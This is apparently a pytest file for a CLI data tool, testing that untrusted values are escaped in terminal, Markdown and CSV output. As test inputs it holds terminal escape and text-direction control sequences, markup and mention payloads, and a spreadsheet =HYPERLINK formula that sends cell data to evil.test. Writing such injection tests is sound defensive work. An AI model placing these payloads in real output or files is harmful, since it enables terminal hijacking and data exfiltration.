"""Values, keys and messages of strangers through every command: nothing of them steers a terminal, a page, a sheet."""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
from pathlib import Path

import pytest

from revetl.cli.output import SafeStdout
from revetl.enrich.lists.files import open_list
from revetl.enrich.lists.writing import write_list
from tests.support.cli_project import call, source

# A title is set, the screen cleared, a colour begun in two ways, the direction turned; markup of rich, HTML, Markdown.
STEERING = "\x1b]0;OWNED\x07\x1b[2J\x9b31m\u202egnp\u200b\u2066\x7f"
MARKUP = "[red]x[/red][link=http://evil.test]y[/link] :boom: |`<b>`@org/team"
HOSTILE = f"{STEERING}{MARKUP}"


def is_safe(text: str) -> bool:
    return not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in text if c not in "\n\t")


@pytest.fixture
def hostile(project: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """The key of one record, whose every text is hostile. One is refused, so that the vendor's message repeats it."""
    monkeypatch.setenv("COLUMNS", "400")
    key = f"k{HOSTILE}"
    source(
        project,
        [
            (key, "p0@hostile.example", f"v{HOSTILE}"),
            (f"r{HOSTILE}", f"not an address {HOSTILE}", "<b>@org/team http://e.test"),
            ("plain", "p1@hostile.example", "[red]x[/] :boom:"),
        ],
    )
    return key


def test_no_command_lets_a_value_steer_the_terminal(hostile: str, capsys: pytest.CaptureFixture[str]) -> None:
    said = {}
    for command in (
        ("plan", "--rows", "all"),
        ("plan", "--show", hostile),
        ("plan", "--json"),
        ("sync", "--yes"),
        ("retry", "--dry-run"),
        ("runs",),
        ("runs", "show"),
        ("runs", "show", "--key", hostile),
        ("explain", hostile),
        ("drift", "hubspot__contacts"),
        ("erase", "--key", hostile, "--dry-run"),
        ("explain", f"nobody{HOSTILE}"),
        ("plan", f"--no-such-flag{HOSTILE}"),
        ("erase", "--email", HOSTILE, "--dry-run"),
    ):
        code, out, err = call(capsys, *command)
        said[command] = out + err
        assert (code, out + err) != (0, ""), command
        assert is_safe(out), (command, out)
        assert is_safe(err), (command, err)
        assert "💥" not in out + err, command
    # What was there is shown as what it is.
    shown = said["plan", "--rows", "all"]
    for seen in ("\\x1b]0;OWNED", "\\x9b31m", "\\u202e", "[red]x[/] :boom:"):
        assert seen in shown, seen
    assert "\\x1b]0;OWNED" in said["explain", hostile]


def test_json_says_what_stands_in_the_model(hostile: str, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = call(capsys, "plan", "--rows", "all", "--json")
    (plan,) = json.loads(out)
    assert hostile in {row["key"] for row in plan["rows"]}


def test_a_pull_request_holds_text_and_nothing_else(hostile: str, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = call(capsys, "plan", "--format", "markdown", "--samples", "9")
    assert is_safe(out)
    assert "\\\\x1b\\]0;OWNED" in out
    assert "&lt;b&gt;" in out
    assert "<b>" not in out
    assert "@org" not in out, "a comment parts it, so that nobody is called"
    assert "http://" not in out


def test_what_a_provider_says_is_no_formula_and_what_the_list_says_stays(tmp_path: Path) -> None:
    source_file, written = tmp_path / "list.csv", io.BytesIO()
    source_file.write_text("name,note\nAda,=1+1\n")
    with open_list(str(source_file), io.BytesIO()) as listing:
        said = ('=HYPERLINK("http://evil.test/?"&A1,"x")', f"Ada{STEERING}", "+33123456789")
        rows = iter([[("Ada", "=1+1", *said), ("Bob", "", None, None, None)]])
        write_list("-", written, listing, ("job_title", "city", "phone"), rows)
    header, ada, bob = csv.reader(io.StringIO(written.getvalue().decode()))
    assert header == ["name", "note", "job_title", "city", "phone"]
    assert ada[:3] == ["Ada", "=1+1", '\'=HYPERLINK("http://evil.test/?"&A1,"x")']
    assert is_safe(ada[3])
    assert ada[3].startswith("Ada\\x1b]0;OWNED")
    assert (ada[4], bob) == ("+33123456789", ["Bob", "", "", "", ""])


def test_a_list_on_a_terminal_steers_it_not_and_into_a_pipe_it_is_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    for looked_at in (True, False):
        raw = io.BytesIO()
        out = io.TextIOWrapper(raw, "utf-8")
        monkeypatch.setattr(out, "isatty", lambda looked_at=looked_at: looked_at)
        monkeypatch.setattr(sys, "stdout", out)
        sink, octets = SafeStdout(), f"a,{STEERING}\nZoë,b".encode()
        for at in range(0, len(octets), 3):  # in the midst of a character too
            sink.write(octets[at : at + 3])
        sink.flush()
        assert is_safe(raw.getvalue().decode()) is looked_at
        assert (raw.getvalue() == octets) is not looked_at
        assert raw.getvalue().endswith("\nZoë,b".encode())
